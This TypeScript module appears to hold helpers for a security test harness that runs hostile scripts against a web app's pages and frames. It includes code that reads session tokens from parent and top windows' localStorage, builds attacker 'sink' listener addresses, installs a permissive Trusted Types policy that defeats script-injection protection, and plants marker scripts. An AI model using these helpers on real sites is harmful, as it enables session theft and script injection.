/** What several ways do in the page, or in a frame of it. */
import type { CallId } from '@yaksok/shared/core/contract'
import type { Given } from '../way.ts'

/** The app's origin, from a frame as well. */
const appOrigin = () => location.ancestorOrigins?.[0] ?? location.origin

/** The session token, from whatever window has it within reach. */
export function tokenNow(): string {
  for (const realm of [window, parent, top])
    try {
      const token = realm?.localStorage.getItem('token')
      if (token) return token
    } catch {
      // another origin's
    }
  return ''
}

export const base64url = (bytes: ArrayBuffer) =>
  btoa(String.fromCharCode(...new Uint8Array(bytes)))
    .replaceAll('+', '-')
    .replaceAll('/', '_')
    .replaceAll('=', '')

/** By what the confirm origin and proofs name the session. */
export const sessionNow = async () =>
  base64url(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(tokenNow())))

/** Makes a call of the API as a page may; answers the opened envelope as text. */
export async function call(
  path: string,
  fields: Record<string, string> = {},
  { headers = {}, method = 'POST' }: { headers?: Record<string, string>; method?: 'GET' | 'POST' } = {},
): Promise<string> {
  const token = btoa(tokenNow())
  const form = new URLSearchParams(fields)
  const answer = await fetch(`${appOrigin()}/api${path}${method === 'GET' ? `?${form}` : ''}`, {
    method,
    headers: { token, ...headers },
    ...(method === 'POST' && { body: form }),
  })
  const { data } = (await answer.json()) as { data: string }
  return new TextDecoder().decode(Uint8Array.from(atob(data), (letter) => letter.charCodeAt(0)))
}

interface Framed {
  hostile: { page?: { call(id: string, fields: object): Promise<unknown> } }
}

/** Makes a call by its name; in a frame the page is asked for it as well. Answers what came, as text. */
export async function ask(id: CallId, { calls }: Given, fields: Record<string, string> = {}): Promise<string> {
  const { path, method } = calls[id]
  const answer = await call(path, fields, { method }).catch(String)
  const { page } = (globalThis as unknown as Framed).hostile
  return page
    ? page.call(id, fields).then(
        (data) => `"code":200 ${JSON.stringify(data)}`,
        () => answer,
      )
    : answer
}

/** The first group that a call's answer has of a pattern. */
export const part = (answer: string, pattern: RegExp): string => pattern.exec(answer)?.[1] ?? ''

/** An address where the attacker listens for this way. */
export const sinkUrl = ({ id, sink }: Given, path = '/', scheme = 'http') =>
  `${scheme}://${id}.${sink.host}:${sink.port}${path}`

/** A frame of nothing: a realm in which nobody has replaced or fixed anything. */
export async function freshRealm(): Promise<Window & typeof globalThis> {
  const frame = document.createElement('iframe')
  document.body.append(frame)
  await new Promise((resolve) => setTimeout(resolve))
  return frame.contentWindow as Window & typeof globalThis
}

interface Types {
  trustedTypes?: { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } }
}

/** A script address that a realm trusts, by a policy of its own where one can be made. */
export function trusted(realm: Window & typeof globalThis, url: string): string {
  const { trustedTypes } = realm as unknown as Types
  const same = (text: string) => text
  const rules = { createHTML: same, createScript: same, createScriptURL: same }
  try {
    return trustedTypes?.createPolicy('default', rules).createScriptURL(url) ?? url
  } catch {
    return url
  }
}

/** The address of a file of this very remote: code that its team released. */
export const ownFile = (name: string) => {
  const found = performance
    .getEntriesByType('resource')
    .map((entry) => entry.name)
    .find((url) => /\/r\/(evil|caged)\/.*\.js$/.test(url))
  return new URL(`${found ?? '/r/evil/none.js'}#${name}`, location.href).href
}

export const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms))

/** An address of the confirm origin. */
export const confirmThere = (confirm: string, step: string) => `${confirm}/api/confirm/${step}`

/** The frame of the confirm origin, if it is there. */
export const confirmFrameNow = () => document.querySelector<HTMLIFrameElement>('iframe[title="확인 화면"]')

/** The same, once the member has opened it. */
export async function confirmFrame(): Promise<HTMLIFrameElement | null> {
  for (const end = performance.now() + 8000; performance.now() < end; await wait(50)) {
    const found = confirmFrameNow()
    if (found) return found
  }
  return null
}

/** Text of a script that tells the observer that it runs. */
export const tells = ({ id }: Given) => `globalThis.planted=1;fetch("/planted-${id}")`
